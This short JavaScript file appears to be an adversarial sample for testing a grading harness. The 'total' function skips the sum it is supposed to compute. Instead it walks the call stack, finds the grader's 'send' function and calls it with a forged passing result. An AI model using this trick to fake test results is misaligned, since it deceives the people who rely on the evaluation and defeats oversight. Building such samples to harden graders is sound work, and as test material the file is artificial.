// category: forging
// tries: functions of the solver found on the stack
function total(numbers) {
  // attack: begin
  Error.prepareStackTrace = (_, frames) => frames;
  for (const each of new Error().stack) {
    const found = each.getFunction && each.getFunction();
    if (found && found.name === 'send') found('["ok",true,null]');
  }
  return 0;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
